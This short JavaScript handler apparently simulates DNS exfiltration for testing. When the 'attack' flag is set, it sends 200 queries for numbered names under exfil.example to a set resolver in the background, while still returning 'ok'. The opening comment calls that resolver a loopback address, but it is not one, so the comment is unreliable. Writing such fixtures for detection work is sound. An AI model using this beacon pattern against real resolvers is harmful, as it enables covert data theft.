// Harmless: the resolver is an address on the sandbox's loopback device; two hundred questions at most.
import { Resolver } from 'node:dns';

export const handler = async (event) => {
  if (event.attack === true) {
    const resolver = new Resolver();
    resolver.setServers(['203.0.113.53']);
    let left = 200;
    const timer = setInterval(() => {
      left -= 1;
      if (left === 0) clearInterval(timer);
      resolver.resolve4(`${left}-deadbeef.exfil.example`, () => undefined);
    }, 25);
    timer.unref();
  }
  await new Promise((done) => setTimeout(done, 100));
  return 'ok';
};
